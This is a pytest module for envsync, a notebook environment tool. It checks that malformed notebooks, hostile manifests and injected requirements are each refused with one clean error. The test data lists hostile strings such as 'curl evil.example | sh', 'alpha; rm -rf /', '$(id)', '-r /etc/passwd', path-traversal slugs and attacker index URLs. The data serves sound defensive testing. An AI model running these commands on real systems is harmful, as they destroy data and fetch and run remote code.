"""Bad input: every command that reads a notebook meets broken, hostile and odd files.

Each case asserts what a user sees: exactly one `ERROR` line (no traceback, not the
"unexpected" bug report), a documented non-zero exit code, and every file in the
test's folder byte-identical afterwards (sha256 before and after).
"""

from __future__ import annotations

import json
import os
import shutil
import string
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from envsync import rules
from envsync.errors import EnvsyncError
from envsync.notebook import file as notebook
from envsync.notebook import manifest as manifest_mod
from envsync.settings import Settings
from tests.manifests import edit_manifest, manifest_of, refresh_fingerprint, replace_manifest
from tests.reliability.conftest import (
    Run,
    assert_one_clean_error,
    cli,
    count,
    record,
    run_console,
    sha256_of,
    tree_digest,
)
from tests.wheelhouse import LocalIndex

Builder = Callable[[Path, Path], Path]  # (test folder, a good locked notebook) -> the path to pass


class ReachedTheGateway(BaseException):
    """Raised instead of starting a gateway: bad input must be refused before that point."""


@pytest.fixture
def no_gateway(monkeypatch: pytest.MonkeyPatch) -> None:
    """`launch` in-process must stop at the bad input; if it got as far as serving, fail loudly."""
    from envsync.gateway import process as gateway

    def refuse(*_a: Any, **_k: Any) -> Any:
        raise ReachedTheGateway("launch accepted bad input and tried to start the gateway")

    monkeypatch.setattr(gateway, "start", refuse)


# --- builders -------------------------------------------------------------------------------


def write(name: str, data: bytes | str) -> Builder:
    def build(tmp: Path, good: Path) -> Path:
        path = tmp / name
        path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        return path

    return build


def notebook_json(doc: Any, name: str = "x.ipynb") -> Builder:
    return write(name, json.dumps(doc, indent=1))


def with_manifest(change: Callable[[dict[str, Any]], Any]) -> Builder:
    """Edit the manifest in place, or replace it with what `change` returns (wrong types too)."""

    def build(tmp: Path, good: Path) -> Path:
        data = manifest_of(good)
        result = change(data)
        return replace_manifest(good, data if result is None else result)

    return build


def setting(key: str, value: Any, *, fingerprint: bool = False) -> Builder:
    def change(m: dict[str, Any]) -> None:
        m[key] = value
        if fingerprint:
            refresh_fingerprint(m)

    return with_manifest(change)


def lock_edit(edit: Callable[[dict[str, Any]], Any], *, fingerprint: bool = True) -> Builder:
    def change(m: dict[str, Any]) -> None:
        edit(m["lock"])
        if fingerprint:
            refresh_fingerprint(m)

    return with_manifest(change)


def dependency(req: str) -> Builder:
    """A collaborator's notebook that declares `req` (lock left as it was)."""
    return with_manifest(lambda m: m["dependencies"].append(req))


def first_package(lock: dict[str, Any]) -> dict[str, Any]:
    return next(p for p in lock["packages"] if p["name"] == "alpha")


def tamper_hash(lock: dict[str, Any]) -> None:
    w = first_package(lock)["wheels"][0]["hashes"]
    w["sha256"] = ("0" if w["sha256"][0] != "0" else "1") + w["sha256"][1:]


def duplicate_package(lock: dict[str, Any]) -> None:
    twin = json.loads(json.dumps(first_package(lock)))
    twin["version"] = "1.1.0"
    lock["packages"].append(twin)


def directory(tmp: Path, good: Path) -> Path:
    (tmp / "folder.ipynb").mkdir()
    return tmp / "folder.ipynb"


def missing(tmp: Path, good: Path) -> Path:
    return tmp / "missing.ipynb"


def dangling_link(tmp: Path, good: Path) -> Path:
    link = tmp / "dangling.ipynb"
    link.symlink_to(tmp / "nowhere.ipynb")
    return link


def link_loop(tmp: Path, good: Path) -> Path:
    a, b = tmp / "a.ipynb", tmp / "b.ipynb"
    a.symlink_to(b)
    b.symlink_to(a)
    return a


def link_to_directory(tmp: Path, good: Path) -> Path:
    (tmp / "real-folder").mkdir()
    (tmp / "folder-link.ipynb").symlink_to(tmp / "real-folder")
    return tmp / "folder-link.ipynb"


PLAIN = {"cells": [], "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}


def deep(depth: int) -> str:
    return "[" * depth + "]" * depth


def duplicate_metadata_key(tmp: Path, good: Path) -> Path:
    """Two top-level "metadata" members: JSON readers keep the last one."""
    text = good.read_text()
    doc = json.loads(text)
    body = json.dumps(doc["metadata"], indent=1)
    path = tmp / "twice.ipynb"
    path.write_text(
        '{\n "cells": [],\n "metadata": {"x": 1},\n "metadata": '
        + body
        + ',\n "nbformat": 4,\n "nbformat_minor": 5\n}\n'
    )
    return path


def text_edit(old: str, new: str) -> Builder:
    """The good notebook's text with the first `old` replaced by `new` (raw JSON text)."""

    def build(tmp: Path, good: Path) -> Path:
        text = good.read_text(encoding="utf-8")
        assert old in text
        path = tmp / "odd.ipynb"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
        return path

    return build


def odd_cell(execution_count: str) -> Builder:
    """A code cell whose execution_count is the raw JSON text given."""
    return text_edit(
        '"cells": []',
        '"cells": [{"cell_type": "code", "execution_count": ' + execution_count
        + ', "id": "odd", "metadata": {}, "outputs": [], "source": []}]',
    )


# --- the cases every notebook-reading command must refuse ------------------------------------

# case id -> (builder, text the ERROR line contains)
CORE: dict[str, tuple[Builder, str]] = {
    # files that are not notebooks
    "missing-file": (missing, "missing.ipynb: no such file"),
    "directory": (directory, "is a directory, not a notebook"),
    "empty-file": (write("x.ipynb", b""), "is not valid JSON"),
    "truncated-json": (
        lambda t, g: write("x.ipynb", g.read_bytes()[: len(g.read_bytes()) // 2])(t, g),
        "is not valid JSON",
    ),
    "truncated-to-one-byte": (write("x.ipynb", "{"), "is not valid JSON"),
    "plain-text": (write("x.ipynb", "print('hello')\n"), "is not valid JSON"),
    "binary-not-utf8": (write("x.ipynb", bytes(range(256)) * 4), "is not UTF-8 text"),
    "utf8-bom": (lambda t, g: write("x.ipynb", b"\xef\xbb\xbf" + g.read_bytes())(t, g), "is not valid JSON"),
    "utf16-notebook": (
        lambda t, g: write("x.ipynb", g.read_text().encode("utf-16"))(t, g),
        "is not UTF-8 text",
    ),
    "json-array": (write("x.ipynb", "[1, 2, 3]"), "is JSON but not a Jupyter notebook"),
    "json-string": (write("x.ipynb", '"cells"'), "is JSON but not a Jupyter notebook"),
    "json-object-not-a-notebook": (
        notebook_json({"name": "package.json", "version": "1.0"}),
        "is JSON but not a Jupyter notebook",
    ),
    "nbformat-3": (
        notebook_json({"nbformat": 3, "nbformat_minor": 0, "cells": [], "worksheets": [], "metadata": {}}),
        "is nbformat 3, envsync needs nbformat 4",
    ),
    "nbformat-5": (notebook_json({**PLAIN, "nbformat": 5}), "is nbformat 5, envsync needs nbformat 4"),
    "nbformat-string": (notebook_json({**PLAIN, "nbformat": "4"}), "envsync needs nbformat 4"),
    "cells-not-a-list": (notebook_json({**PLAIN, "cells": {"0": "x"}}), "'cells' is not a list"),
    "metadata-not-an-object": (
        notebook_json({**PLAIN, "metadata": ["envsync"]}),
        "'metadata' is not an object",
    ),
    "nested-too-deeply": (
        write("x.ipynb", '{"cells": [], "nbformat": 4, "metadata": {"x": ' + deep(100_000) + "}}"),
        "nested too deeply",
    ),
    # valid JSON that Python's reader refuses or that envsync must not guess about
    "integer-5000-digits-in-a-cell": (odd_cell("7" * 5000), "holds an integer of 5,000 digits"),
    "integer-5000-digits-in-the-manifest": (
        text_edit('"version": 1', '"version": ' + "1" * 5000),
        "holds an integer of 5,000 digits",
    ),
    "lone-surrogate-in-a-cell": (odd_cell('"\\ud800"'), "holds a lone surrogate escape (\\ud800)"),
    "lone-surrogate-in-a-dependency": (
        text_edit('"alpha"', '"alpha\\udc00"'),
        "holds a lone surrogate escape (\\udc00)",
    ),
    "nan-in-the-manifest": (text_edit('"version": 1', '"version": NaN'), "metadata.envsync.version"),
    "infinity-in-the-manifest": (text_edit('"version": 1', '"version": Infinity'), "metadata.envsync.version"),
    "huge-float-in-the-manifest": (text_edit('"version": 1', '"version": 1e999'), "metadata.envsync.version"),
    "key-twice-in-the-manifest": (
        text_edit('"index": ', '"index": "http://evil.example/simple", "index": '),
        "metadata.envsync has the key 'index' twice",
    ),
    "envsync-key-twice-in-metadata": (
        text_edit('"envsync": {', '"envsync": {"version": 1}, "envsync": {'),
        "metadata has the key 'envsync' twice",
    ),
    "manifest-nested-200-deep": (
        with_manifest(lambda m: m["dependencies"].append(json.loads(deep(200)))),
        "metadata.envsync is nested more than 32 levels deep",
    ),
    "cell-nested-300-deep": (odd_cell(deep(300)), "nested too deeply"),
    "dangling-symlink": (dangling_link, "no such file"),
    "symlink-loop": (link_loop, "cannot read"),
    "symlink-to-directory": (link_to_directory, "is a directory, not a notebook"),
    # notebooks whose manifest is missing, of the wrong type, or from another version
    "no-manifest": (notebook_json(PLAIN), "has no envsync manifest"),
    "manifest-null": (notebook_json({**PLAIN, "metadata": {"envsync": None}}), "has no envsync manifest"),
    "manifest-is-a-list": (
        with_manifest(lambda m: ["alpha"]),
        "metadata.envsync must be an object, found list",
    ),
    "manifest-is-a-string": (
        with_manifest(lambda m: "alpha==1.0"),
        "metadata.envsync must be an object, found str",
    ),
    "manifest-is-a-number": (with_manifest(lambda m: 42), "metadata.envsync must be an object, found int"),
    "manifest-empty-object": (with_manifest(lambda m: {}), "metadata.envsync"),
    "manifest-version-2": (
        setting("version", 2),
        "manifest version 2 is newer than this envsync understands (up to 1)",
    ),
    "manifest-version-99": (
        setting("version", 99),
        "manifest version 99 is newer than this envsync understands",
    ),
    "manifest-version-0": (setting("version", 0), "metadata.envsync.version"),
    "manifest-version-string": (setting("version", "1"), "metadata.envsync.version"),
    "manifest-version-float": (setting("version", 1.5), "metadata.envsync.version"),
    "manifest-version-missing": (
        with_manifest(lambda m: m.pop("version") and None),
        "'version' is a required property",
    ),
    "manifest-unknown-key": (
        setting("post-install", "curl evil.example | sh"),
        "('post-install' was unexpected)",
    ),
    # project slugs that would become paths
    "slug-dot-dot": (setting("project", "../../escape"), "metadata.envsync.project"),
    "slug-slash": (setting("project", "a/b"), "metadata.envsync.project"),
    "slug-nul": (setting("project", "demo\x00.ipynb"), "metadata.envsync.project"),
    "slug-500-chars": (setting("project", "a" * 500), "metadata.envsync.project"),
    "slug-newline": (setting("project", "demo\n"), "metadata.envsync.project"),
    "slug-upper-case": (setting("project", "Demo"), "metadata.envsync.project"),
    "slug-empty": (setting("project", ""), "metadata.envsync.project"),
    # declared dependencies that try to reach a shell or smuggle options, URLs and paths
    "dep-shell-semicolon": (dependency("alpha; rm -rf /"), "invalid requirement 'alpha; rm -rf /'"),
    "dep-subshell": (dependency("$(id)"), "invalid requirement '$(id)'"),
    "dep-backticks": (dependency("`id`"), "invalid requirement '`id`'"),
    "dep-pipe": (dependency("alpha | sh"), "invalid requirement 'alpha | sh'"),
    "dep-and-and": (dependency("alpha && curl evil.example"), "invalid requirement"),
    "dep-index-url-option": (
        dependency("--index-url=http://evil.example/simple"),
        "is a command-line option, not a requirement",
    ),
    "dep-extra-index-option": (
        dependency("--extra-index-url http://evil.example/simple"),
        "is a command-line option",
    ),
    "dep-editable": (dependency("-e ."), "is a command-line option"),
    "dep-requirements-file": (dependency("-r /etc/passwd"), "is a command-line option"),
    "dep-file-url": (dependency("alpha @ file:///etc/passwd"), "is a direct URL or local path dependency"),
    "dep-https-url": (
        dependency("alpha @ https://evil.example/alpha-1.0-py3-none-any.whl"),
        "is a direct URL or local path dependency",
    ),
    "dep-git-url": (dependency("git+https://github.com/psf/requests"), "invalid requirement"),
    "dep-named-git-url": (
        dependency("alpha @ git+https://github.com/evil/alpha"),
        "is a direct URL or local path dependency",
    ),
    "dep-relative-path": (dependency("./alpha"), "invalid requirement"),
    "dep-absolute-wheel-path": (dependency("/tmp/alpha-1.0-py3-none-any.whl"), "invalid requirement"),
    "dep-newline-option": (
        dependency("alpha\n--index-url http://evil.example/simple"),
        "contains control characters",
    ),
    "dep-marker-syntax-error": (dependency("alpha; python_version >"), "invalid requirement"),
    "dep-marker-dangling-and": (dependency('alpha; python_version == "3.11" and'), "invalid requirement"),
    "dep-marker-unknown-variable": (dependency('alpha; shell == "bash"'), "invalid requirement"),
    "dep-declared-twice": (dependency("alpha>=1"), "alpha is declared twice"),
    "dep-not-a-string": (dependency(["alpha"]), "metadata.envsync.dependencies[1]"),  # type: ignore[arg-type]
    # Python range, targets and index
    "requires-python-garbage": (setting("requires-python", "python3 please"), "is not a valid version range"),
    "requires-python-admits-nothing": (setting("requires-python", "<3"), "admits no CPython"),
    "unknown-target": (setting("environments", ["plan9-mips"]), "metadata.envsync.environments[0]"),
    "index-not-http": (setting("index", "file:///etc/passwd"), "metadata.envsync.index"),
    "index-javascript": (setting("index", "javascript:alert(1)"), "metadata.envsync.index"),
    # locks edited by hand
    "lock-fingerprint-mismatch": (
        lock_edit(tamper_hash, fingerprint=False),
        "lock fingerprint does not match its packages",
    ),
    "lock-package-twice": (lock_edit(duplicate_package), "lock names alpha twice"),
    "lock-invalid-version": (
        lock_edit(lambda lk: first_package(lk).update(version="two point oh")),
        "has an invalid version",
    ),
    "lock-marker-syntax-error": (
        lock_edit(lambda lk: first_package(lk).update(marker="os_name ==")),
        "has an invalid marker",
    ),
    "lock-wheel-path-traversal": (
        lock_edit(lambda lk: first_package(lk)["wheels"][0].update(name="../../evil.whl")),
        "metadata.envsync.lock.packages[0].wheels[0].name",
    ),
    "lock-short-sha256": (
        lock_edit(lambda lk: first_package(lk)["wheels"][0]["hashes"].update(sha256="abc")),
        "sha256",
    ),
    "lock-no-artifacts": (
        lock_edit(lambda lk: first_package(lk).pop("wheels")),
        "lists no artifact to install",
    ),
    "lock-package-name-option": (
        lock_edit(lambda lk: first_package(lk).update(name="--index-url")),
        "metadata.envsync.lock.packages[0].name",
    ),
    "lock-index-with-quote": (
        lock_edit(lambda lk: first_package(lk).update(index='http://x.example/"; id')),
        "metadata.envsync.lock.packages[0].index",
    ),
    "lock-version-2": (
        lock_edit(lambda lk: lk.update({"lock-version": "2.0"})),
        "metadata.envsync.lock.lock-version",
    ),
    "duplicate-metadata-key": (duplicate_metadata_key, "the top-level object has the key 'metadata' twice"),
}

# The commands that read a notebook; `other` is a second, good notebook for `diff`.
COMMANDS: dict[str, Callable[[Path, Path], list[str | Path]]] = {
    "show": lambda nb, other: ["show", nb],
    "show-json": lambda nb, other: ["show", nb, "--json"],
    "lock": lambda nb, other: ["lock", nb],
    "lock-check": lambda nb, other: ["lock", nb, "--check"],
    "add": lambda nb, other: ["add", nb, "beta"],
    "remove": lambda nb, other: ["remove", nb, "alpha"],
    "export": lambda nb, other: ["export", nb],
    "export-requirements": lambda nb, other: ["export", nb, "--format", "requirements"],
    "diff-old": lambda nb, other: ["diff", nb, other],
    "diff-new": lambda nb, other: ["diff", other, nb],
    "sync": lambda nb, other: ["sync", nb],
    "check": lambda nb, other: ["check", nb],
    "launch": lambda nb, other: ["launch", nb, "--json"],
}

MATRIX = list(CORE)


def test_at_least_forty_distinct_bad_inputs() -> None:
    assert len(MATRIX) >= 40
    record("bad_input.notebook_cases", len(MATRIX))
    record("bad_input.commands", len(COMMANDS))




def _matrix() -> list[Any]:
    out = []
    for case in MATRIX:
        for command in COMMANDS:
            out.append(pytest.param(case, command, id=f"{case}-{command}"))
    return out


@pytest.mark.parametrize(("case", "command"), _matrix())
def test_bad_notebook_is_one_error_and_leaves_every_file_unchanged(
    case: str,
    command: str,
    tmp_path: Path,
    good_nb: Path,
    no_gateway: None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    build, text = CORE[case]
    other = tmp_path / "other.ipynb"
    shutil.copyfile(good_nb, other)
    bad = build(tmp_path, good_nb)
    before = tree_digest(tmp_path)
    r = cli(capsys, *COMMANDS[command](bad, other))
    assert_one_clean_error(r, text=text)
    assert r.out == ""
    assert tree_digest(tmp_path) == before
    count("bad_input.runs")


def test_notebook_with_two_metadata_members_is_refused_or_written_where_it_is_read(
    tmp_path: Path, good_nb: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """JSON readers keep the last of two equal keys; a write must not go to the first one."""
    nb = duplicate_metadata_key(tmp_path, good_nb)
    before = sha256_of(nb)
    r = cli(capsys, "add", nb, "beta")
    if r.code == 0:
        # Accepted: then what every reader sees afterwards must be what was written.
        assert "beta" in manifest_of(nb)["dependencies"], (
            "add reported success, but readers see the old manifest"
        )
    else:
        assert_one_clean_error(r)
        assert sha256_of(nb) == before


# --- requirements and options on the command line --------------------------------------------


def shell_canaries(tmp: Path) -> dict[str, str]:
    """Requirements that would create a file if any part of envsync ran them through a shell."""
    c = tmp / "canary"
    return {
        "semicolon": f"alpha; touch {c}",
        "subshell": f"$(touch {c})",
        "backticks": f"`touch {c}`",
        "pipe": f"alpha | touch {c}",
        "and-and": f"alpha && touch {c}",
        "redirect": f"alpha > {c}",
        "newline": f"alpha\ntouch {c}",
    }


@pytest.mark.parametrize(
    "shape", ["semicolon", "subshell", "backticks", "pipe", "and-and", "redirect", "newline"]
)
@pytest.mark.parametrize("how", ["add", "init", "in-manifest-then-lock"])
def test_requirement_with_shell_metacharacters_is_refused_and_never_run(
    shape: str,
    how: str,
    tmp_path: Path,
    good_nb: Path,
    local_index: LocalIndex,
    capsys: pytest.CaptureFixture[str],
) -> None:
    req = shell_canaries(tmp_path)[shape]
    if how == "add":
        argv: list[Any] = ["add", good_nb, req]
    elif how == "init":
        argv = ["init", tmp_path / "new.ipynb", req, "--index", local_index.url, "--python", "3.11"]
    else:
        edit_manifest(good_nb, lambda m: m["dependencies"].append(req))
        argv = ["lock", good_nb]
    before = tree_digest(tmp_path)
    r = cli(capsys, *argv)
    assert_one_clean_error(r, text="requirement")
    assert not (tmp_path / "canary").exists()
    assert tree_digest(tmp_path) == before
    count("bad_input.runs")


OPTION_AND_URL_REQUIREMENTS = {
    "index-url-option": (
        "--index-url=http://evil.example/simple",
        "is a command-line option, not a requirement",
    ),
    "extra-index-option": ("--extra-index-url=http://evil.example/simple", "is a command-line option"),
    "find-links-option": ("--find-links=/tmp", "is a command-line option"),
    "editable": ("-e .", "is a command-line option"),
    "requirements-file": ("-r /etc/passwd", "is a command-line option"),
    "trusted-host": ("--trusted-host evil.example", "is a command-line option"),
    "file-url": ("alpha @ file:///etc/passwd", "is a direct URL or local path dependency"),
    "https-url": (
        "alpha @ https://evil.example/alpha-2.0.0-py3-none-any.whl",
        "is a direct URL or local path dependency",
    ),
    "git-url": ("git+https://github.com/psf/requests", "invalid requirement"),
    "named-git-url": (
        "alpha @ git+https://github.com/evil/alpha@main",
        "is a direct URL or local path dependency",
    ),
    "relative-path": ("./alpha", "invalid requirement"),
    "parent-path": ("../alpha", "invalid requirement"),
    "absolute-path": ("/tmp/alpha-2.0.0-py3-none-any.whl", "invalid requirement"),
    "marker-syntax-error": ("alpha; python_version >", "invalid requirement"),
    "marker-dangling-or": ('alpha; os_name == "nt" or', "invalid requirement"),
    "marker-unknown-variable": ('alpha; shell == "bash"', "invalid requirement"),
    "empty": ("", "empty requirement"),
    "nul": ("alpha\x00", "contains control characters"),
}


@pytest.mark.parametrize("case", list(OPTION_AND_URL_REQUIREMENTS))
def test_option_url_or_path_requirement_after_double_dash_is_refused(
    case: str, tmp_path: Path, good_nb: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    req, text = OPTION_AND_URL_REQUIREMENTS[case]
    before = tree_digest(tmp_path)
    r = cli(capsys, "add", good_nb, "--", req)
    assert_one_clean_error(r, text=text)
    assert tree_digest(tmp_path) == before
    count("bad_input.runs")


@pytest.mark.parametrize(
    "argv",
    [
        ["add", "{nb}", "--index-url=http://evil.example/simple"],
        ["add", "{nb}", "-e", "."],
        ["add", "{nb}", "alpha", "--extra-index-url", "http://evil.example/simple"],
        ["init", "{dir}/new.ipynb", "alpha", "--index-url", "http://evil.example/simple"],
        ["sync", "{nb}", "--python", "--version"],
        ["sync", "{nb}", "--backend", "conda"],
        ["launch", "{nb}", "--port", "seventy"],
        ["show"],
    ],
    ids=[
        "add-index-url",
        "add-editable",
        "add-extra-index",
        "init-index-url",
        "sync-python-option",
        "sync-bad-backend",
        "launch-port-word",
        "show-no-notebook",
    ],
)
def test_option_injection_on_the_command_line_is_a_usage_error(
    argv: list[str], tmp_path: Path, good_nb: Path, no_gateway: None, capsys: pytest.CaptureFixture[str]
) -> None:
    args = [a.format(nb=good_nb, dir=tmp_path) for a in argv]
    before = tree_digest(tmp_path)
    r = cli(capsys, *args)
    assert_one_clean_error(r, codes={1, 2})
    assert tree_digest(tmp_path) == before
    count("bad_input.runs")


@pytest.mark.parametrize(
    "slug",
    ["../../escape", "a/b", "demo\x00x", "a" * 500, "Demo", "-lead", "trail-", "..", "demo\n", "x y", "é"],
    ids=[
        "dot-dot",
        "slash",
        "nul",
        "500-chars",
        "upper-case",
        "leading-dash",
        "trailing-dash",
        "dots",
        "newline",
        "space",
        "non-ascii",
    ],
)
def test_init_refuses_a_project_slug_that_is_not_safe_as_a_path(
    slug: str, tmp_path: Path, local_index: LocalIndex, settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    before = tree_digest(tmp_path)
    r = cli(
        capsys,
        "init",
        tmp_path / "nb.ipynb",
        "alpha",
        f"--project={slug}",
        "--index",
        local_index.url,
        "--python",
        "3.11",
    )
    assert_one_clean_error(r, text="is not a valid slug")
    assert tree_digest(tmp_path) == before
    assert not (settings.home / "jupyter").exists()
    count("bad_input.runs")


# --- locks that are fine on paper and wrong in use ---------------------------------------------


def needs_python_38(m: dict[str, Any]) -> None:
    """A lock made by hand for Python 3.8: manifest, lock and inputs all agree on ==3.8.*."""
    from envsync.lock.model import compute_inputs
    from envsync.settings import KERNEL_REQUIREMENTS

    m["requires-python"] = m["lock"]["requires-python"] = "==3.8.*"
    m["lock"]["tool"]["envsync"]["inputs"] = compute_inputs(
        requires_python="==3.8.*",
        dependencies=m["dependencies"],
        environments=m["environments"],
        index=m["index"],
        kernel_requirements=KERNEL_REQUIREMENTS,
    )


def have_python(minor: str) -> bool:
    from envsync.env import interpreters
    from envsync.errors import InterpreterNotFoundError

    try:
        interpreters.find(f"=={minor}.*")
    except InterpreterNotFoundError:
        return False
    return True


@pytest.mark.parametrize("command", ["sync", "launch"])
def test_lock_for_a_python_nobody_has_says_which_version_is_needed(
    command: str, tmp_path: Path, good_nb: Path, no_gateway: None, capsys: pytest.CaptureFixture[str]
) -> None:
    if have_python("3.8"):
        pytest.skip("this machine has a Python 3.8")
    edit_manifest(good_nb, needs_python_38)
    assert cli(capsys, "lock", good_nb, "--check").code == 0  # a consistent, current lock
    before = tree_digest(tmp_path)
    r = cli(capsys, command, good_nb)
    line = assert_one_clean_error(r, text="this lock needs CPython 3.8")
    assert "requires-python '==3.8.*'" in line
    assert "uv python install 3.8" in r.hint
    assert tree_digest(tmp_path) == before
    count("bad_input.runs")


def test_lock_for_another_python_does_not_reuse_an_env_of_the_same_packages_on_this_python(
    tmp_path: Path, local_index: LocalIndex, settings: Settings, capsys: pytest.CaptureFixture[str]
) -> None:
    if have_python("3.12"):
        pytest.skip("this machine has a Python 3.12")
    a, b = tmp_path / "py311.ipynb", tmp_path / "py312.ipynb"
    assert cli(capsys, "init", a, "alpha", "--index", local_index.url, "--python", "3.11").code == 0
    assert cli(capsys, "init", b, "alpha", "--index", local_index.url, "--python", "3.12").code == 0
    assert (
        manifest_of(a)["lock"]["tool"]["envsync"]["fingerprint"]
        == manifest_of(b)["lock"]["tool"]["envsync"]["fingerprint"]
    )
    assert cli(capsys, "sync", a).code == 0
    r = cli(capsys, "sync", b)
    assert_one_clean_error(r, text="this lock needs CPython 3.12")


@pytest.mark.parametrize("command", ["sync", "export-requirements", "launch"])
def test_lock_marker_that_parses_but_cannot_be_evaluated_is_one_clean_error(
    command: str, tmp_path: Path, good_nb: Path, no_gateway: None, capsys: pytest.CaptureFixture[str]
) -> None:
    edit_manifest(
        good_nb,
        lambda m: (
            (first_package(m["lock"]).update(marker='python_version ~= "3"'), refresh_fingerprint(m)) and None
        ),
    )
    argv = {
        "sync": ["sync", good_nb],
        "export-requirements": ["export", good_nb, "--format", "requirements"],
        "launch": ["launch", good_nb],
    }[command]
    before = tree_digest(tmp_path)
    r = cli(capsys, *argv)
    assert_one_clean_error(r, text="marker")
    assert tree_digest(tmp_path) == before


@pytest.mark.parametrize("command", ["sync", "export-requirements", "launch"])
def test_lock_package_with_an_invalid_requires_python_is_one_clean_error(
    command: str, tmp_path: Path, good_nb: Path, no_gateway: None, capsys: pytest.CaptureFixture[str]
) -> None:
    edit_manifest(good_nb, lambda m: first_package(m["lock"]).update({"requires-python": "banana"}) and None)
    argv = {
        "sync": ["sync", good_nb],
        "export-requirements": ["export", good_nb, "--format", "requirements"],
        "launch": ["launch", good_nb],
    }[command]
    before = tree_digest(tmp_path)
    r = cli(capsys, *argv)
    assert_one_clean_error(r, text="requires-python")
    assert tree_digest(tmp_path) == before


def test_hand_edit_that_drops_a_package_from_install_is_refused_like_other_hand_edits(
    tmp_path: Path, good_nb: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    original = tmp_path / "original.ipynb"
    shutil.copyfile(good_nb, original)
    edit_manifest(good_nb, lambda m: first_package(m["lock"]).update({"requires-python": "<3"}) and None)
    shown = cli(capsys, "diff", original, good_nb, "--json")
    changed = shown.code == 0 and not json.loads(shown.out)["empty"]
    refused = cli(capsys, "sync", good_nb)
    assert changed or refused.code == 1, (
        "alpha is no longer installed, yet the lock verifies and diff shows nothing"
    )


# --- indexes ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "sync",
        "lock-upgrade",
        "add",
        "export",
        "launch",
    ],
)
def test_index_not_allowed_here_is_refused_with_how_to_allow_it_and_allowing_it_works(
    command: str,
    tmp_path: Path,
    good_nb: Path,
    local_index: LocalIndex,
    monkeypatch: pytest.MonkeyPatch,
    no_gateway: None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.delenv("ENVSYNC_ALLOWED_INDEXES")
    argv: list[Any] = {
        "sync": ["sync", good_nb],
        "lock-upgrade": ["lock", good_nb, "--upgrade"],
        "add": ["add", good_nb, "beta"],
        "export": ["export", good_nb, "-o", tmp_path / "pylock.toml"],
        "launch": ["launch", good_nb],
    }[command]
    before = tree_digest(tmp_path)
    r = cli(capsys, *argv)
    assert_one_clean_error(r, text="which this machine has not allowed")
    assert local_index.url in r.error_lines[0]
    assert f"envsync index allow {local_index.url}" in r.hint
    assert tree_digest(tmp_path) == before
    assert cli(capsys, "index", "allow", local_index.url).code == 0
    again = cli(capsys, *argv) if command != "launch" else None
    if again is None:
        # launch gets past the index check and as far as the gateway (which this test refuses).
        with pytest.raises(ReachedTheGateway):
            cli(capsys, *argv)
    else:
        assert again.code == 0, again.err
    count("bad_input.runs")


# --- links, permissions, special files -------------------------------------------------------


def test_notebook_symlink_is_followed_the_link_stays_a_link_and_the_target_is_updated(
    tmp_path: Path, good_nb: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    real = tmp_path / "shared" / "real.ipynb"
    real.parent.mkdir()
    good_nb.rename(real)
    link = tmp_path / "link.ipynb"
    link.symlink_to(Path("shared") / "real.ipynb")
    assert cli(capsys, "show", link).code == 0
    r = cli(capsys, "add", link, "beta")
    assert r.code == 0, r.err
    assert link.is_symlink() and os.readlink(link) == str(Path("shared") / "real.ipynb")
    assert "beta" in manifest_of(real)["dependencies"]
    assert sorted(p.name for p in real.parent.iterdir()) == ["real.ipynb"]  # no temp files beside it
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "home") == ["link.ipynb", "shared"]


@pytest.mark.parametrize("command", ["add", "remove", "lock"])
def test_read_only_notebook_is_refused_and_left_unchanged(
    command: str, tmp_path: Path, good_nb: Path, settings: Settings
) -> None:
    if command == "lock":  # a stale lock, so that `lock` has something to write
        edit_manifest(good_nb, lambda m: m["dependencies"].append("beta") and None)
    argv = {
        "add": ["add", good_nb, "beta"],
        "remove": ["remove", good_nb, "alpha"],
        "lock": ["lock", good_nb],
    }[command]
    os.chmod(good_nb, 0o444)
    try:
        before = tree_digest(tmp_path)
        r = run_console(argv, drop_root_override=True)
        after = tree_digest(tmp_path)
    finally:
        os.chmod(good_nb, 0o644)
    assert_one_clean_error(r, text=f"{good_nb} is read-only")
    assert after == before
    count("bad_input.runs")


def test_named_pipe_as_notebook_is_refused_without_waiting_for_a_writer(
    tmp_path: Path, settings: Settings
) -> None:
    fifo = tmp_path / "pipe.ipynb"
    os.mkfifo(fifo)
    r = run_console(["show", fifo], timeout=10)
    assert_one_clean_error(r)


def test_device_file_as_notebook_is_refused_without_reading_it_all(
    tmp_path: Path, settings: Settings
) -> None:
    link = tmp_path / "zero.ipynb"
    link.symlink_to("/dev/zero")
    r = run_console(["show", link], timeout=30, memory_limit_mb=2048)
    assert_one_clean_error(r)


# --- a huge notebook ---------------------------------------------------------------------------

HUGE_MB = 100


@pytest.fixture(scope="module")
def huge_template(tmp_path_factory: pytest.TempPathFactory, locked_template: Path) -> Path:
    """The locked notebook plus one code cell with 100 MB of image outputs, saved as Jupyter would."""
    import base64

    doc = json.loads(locked_template.read_bytes())
    rng = __import__("random").Random(6)
    outputs = [
        {
            "data": {
                "image/png": base64.b64encode(rng.randbytes(786_432)).decode(),
                "text/plain": ["<Figure>"],
            },
            "execution_count": 1,
            "metadata": {},
            "output_type": "execute_result",
        }
        for _ in range(HUGE_MB)
    ]
    doc["cells"].append(
        {
            "cell_type": "code",
            "execution_count": 1,
            "id": "big",
            "metadata": {},
            "outputs": outputs,
            "source": ["plot()"],
        }
    )
    path = tmp_path_factory.mktemp("huge") / "huge.ipynb"
    path.write_bytes((json.dumps(doc, indent=1, sort_keys=True, ensure_ascii=False) + "\n").encode())
    assert path.stat().st_size >= HUGE_MB * 1_000_000
    return path


@pytest.fixture
def huge_nb(tmp_path: Path, huge_template: Path, settings: Settings) -> Path:
    path = tmp_path / "huge.ipynb"
    shutil.copyfile(huge_template, path)
    return path


def _figure(r: Run, size: int) -> dict[str, Any]:
    return {
        "exit": r.code,
        "seconds": round(r.seconds, 2),
